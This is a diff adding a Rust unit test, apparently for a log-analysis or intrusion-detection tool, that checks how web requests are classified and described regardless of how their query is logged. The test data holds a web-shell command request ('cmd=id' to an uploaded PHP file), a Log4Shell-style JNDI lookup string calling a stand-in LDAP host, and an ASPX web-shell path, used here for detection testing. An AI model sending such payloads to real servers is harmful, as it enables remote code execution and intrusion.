@@ -81,6 +81,28 @@ fn outcome(acts: impl IntoIterator<Item = Option<ServerAct>>, reads: &[AccountAc
 const SHELL: &str = r"C:\inetpub\wwwroot\aspnet_client\sys\err.aspx";
 
 #[test]
+fn a_page_is_the_same_page_whichever_way_its_query_is_logged() {
+    let apart = request(1, "POST", "/uploads/x.php", "cmd=id", INTRUDER, "200").unwrap();
+    let in_one = request(
+        1,
+        "POST",
+        "/uploads/x.php?cmd=id",
+        "/uploads/x.php?cmd=id",
+        INTRUDER,
+        "200",
+    );
+    assert_eq!(apart.kind, Kind::OddPageAsked);
+    assert_eq!(apart.what, "/uploads/x.php");
+    assert_eq!(in_one, Some(apart));
+
+    let asked = |path, query| request(1, "GET", path, query, INTRUDER, "404").unwrap().detail;
+    let told = "GET /a?q=${jndi:ldap://x.example/a}, answered 404";
+    assert_eq!(asked("/a", "q=${jndi:ldap://x.example/a}"), told);
+    let whole = "/a?q=${jndi:ldap://x.example/a}";
+    assert_eq!(asked(whole, whole), told);
+}
+
+#[test]
 fn a_taken_server_is_one_thing() {
     let json = "/autodiscover/autodiscover.json";
     let read = AccountAct {
